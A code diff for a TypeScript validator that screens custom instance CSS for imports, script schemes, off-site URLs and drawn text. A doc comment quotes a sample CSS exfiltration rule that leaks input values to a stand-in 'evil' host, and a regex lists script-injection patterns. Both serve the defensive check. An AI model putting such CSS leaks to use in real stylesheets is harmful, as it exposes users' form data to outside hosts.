@@ -1,3 +1,5 @@
+import { drawsChosenText, writesContent } from './css-drawn-text.rule';
+
 /**
  * What an instance's custom CSS may contain. It is served inside /instance/styles.css after the
  * :root block, so it can only add rules; these checks stop it from loading or running anything:
@@ -10,9 +12,9 @@
  *   path (no scheme, no protocol-relative `//host`). The one absolute URL allowed is the instance's own
  *   logo. A stylesheet may otherwise load nothing from elsewhere, because CSS can read attribute values
  *   (`input[value^="a"] { background: url(https://evil/?a) }`) and leak them, one request per guess;
- * - `content:` (text drawn by the stylesheet) only as `none`, `normal`, `""`, counters or quotes, so
- *   CSS cannot put words on screen that look like the product's or another user's (a fake "your
- *   session expired, write your password to…" note).
+ * - no text of its own on screen (css-drawn-text.rule.ts): `content:` only as `none`, `normal`, `""`,
+ *   numeric counters or quotes, and no strings, letter counter styles or `@counter-style` anywhere else a
+ *   browser draws them, so CSS cannot put words on screen that look like the product's or another user's.
  *
  * The checks run on what a browser sees: comments removed, CSS escapes (`\6a`, `\:`) decoded, and
  * tabs and newlines dropped from URLs and schemes as URL parsers do. Erring on the strict side is
@@ -27,6 +29,7 @@ export const CssRule = {
   Script: 'VALIDATION.CUSTOM_CSS.SCRIPT',
   UnsafeUrl: 'VALIDATION.CUSTOM_CSS.UNSAFE_URL',
   Content: 'VALIDATION.CUSTOM_CSS.CONTENT',
+  Text: 'VALIDATION.CUSTOM_CSS.TEXT',
 } as const;
 
 const URL_FUNCTIONS = new Set(['url', 'src', 'image-set', '-webkit-image-set']);
@@ -34,9 +37,13 @@ const IDENT_CHAR = /[A-Za-z0-9_\-\u0080-\uffff]/;
 const WHITESPACE = /[ \t\n\r\f]/;
 const SCRIPT = /javascript:|vbscript:|expression\s*\(|-moz-binding/;
 
-/** The CSS as a browser tokenises it: comments gone, escapes decoded, and the URLs it would load. */
-export function scanCss(css: string): { text: string; urls: string[] } {
+/**
+ * The CSS as a browser tokenises it: comments gone, escapes decoded, and the URLs it would load; `shape` is
+ * the same text with each string as `""` when empty or `"…"` when not (so a string cannot end a declaration).
+ */
+export function scanCss(css: string): { text: string; shape: string; urls: string[] } {
   let text = '';
+  let shape = '';
   let ident = '';
   let i = 0;
   const urls: string[] = [];
@@ -96,21 +103,25 @@ export function scanCss(css: string): { text: string; urls: string[] } {
       const value = readString(c);
       if (URL_FUNCTIONS.has(functions[functions.length - 1] ?? '')) urls.push(value);
       text += `"${value}"`;
+      shape += value ? '"…"' : '""';
       ident = '';
     } else if (c === '\\') {
       const decoded = readEscape();
       text += decoded;
+      shape += decoded;
       ident += decoded;
     } else if (c === '(') {
       const name = ident.toLowerCase();
       ident = '';
       text += '(';
+      shape += '(';
       i++;
       while (i < css.length && WHITESPACE.test(css[i])) i++;
       if (name === 'url' && css[i] !== '"' && css[i] !== "'") {
         const value = readUnquotedUrl();
         urls.push(value);
         text += `${value})`;
+        shape += `${value})`;
       } else {
         functions.push(name);
       }
@@ -118,14 +129,16 @@ export function scanCss(css: string): { text: string; urls: string[] } {
       functions.pop();
       ident = '';
       text += ')';
+      shape += ')';
       i++;
     } else {
       ident = IDENT_CHAR.test(c) ? ident + c : '';
       text += c;
+      shape += c;
       i++;
     }
   }
-  return { text, urls };
+  return { text, shape, urls };
 }
 
 // Browsers ignore control characters and spaces around a URL; the patterns match them on purpose.
@@ -150,14 +163,6 @@ export function isSafeCssUrl(url: string, allowed: readonly string[] = []): bool
   return !/^[a-z][a-z0-9+.-]*:/i.test(cleaned) && !cleaned.startsWith('//');
 }
 
-// What `content:` may be: nothing that writes words. Strings are "…" in the scanned text.
-const CONTENT_DECLARATION = /(?:^|[{;\s])content\s*:([^;}]*)/g;
-const HARMLESS_CONTENT = /^(?:\s|none|normal|""|counters?\([^()"]*\)|(?:no-)?(?:open|close)-quote|!important)*$/;
-
-function writesText(seen: string): boolean {
-  return [...seen.matchAll(CONTENT_DECLARATION)].some((m) => !HARMLESS_CONTENT.test(m[1]));
-}
-
 /** What a custom stylesheet is checked against beyond itself. */
 export interface CustomCssContext {
   /** the instance's logo URL: the one absolute URL the CSS may use */
@@ -167,7 +172,7 @@ export interface CustomCssContext {
 /** The broken rules of a custom stylesheet, as translation keys; empty when it may be stored. */
 export function customCssProblems(css: string, context: CustomCssContext = {}): string[] {
   if (Buffer.byteLength(css, 'utf8') > CUSTOM_CSS_MAX_BYTES) return [CssRule.TooLong];
-  const { text, urls } = scanCss(css);
+  const { text, shape, urls } = scanCss(css);
   const seen = text.toLowerCase();
   const squeezed = seen.replace(/[\t\n\r]/g, '');
   const problems = new Set<string>();
@@ -175,6 +180,7 @@ export function customCssProblems(css: string, context: CustomCssContext = {}): 
   if (seen.includes('@import')) problems.add(CssRule.Import);
   if (SCRIPT.test(squeezed)) problems.add(CssRule.Script);
   if (urls.some((url) => !isSafeCssUrl(url, context.logoUrl ? [context.logoUrl] : []))) problems.add(CssRule.UnsafeUrl);
-  if (writesText(seen)) problems.add(CssRule.Content);
+  if (writesContent(shape.toLowerCase())) problems.add(CssRule.Content);
+  if (drawsChosenText(shape.toLowerCase())) problems.add(CssRule.Text);
   return [...problems];
 }
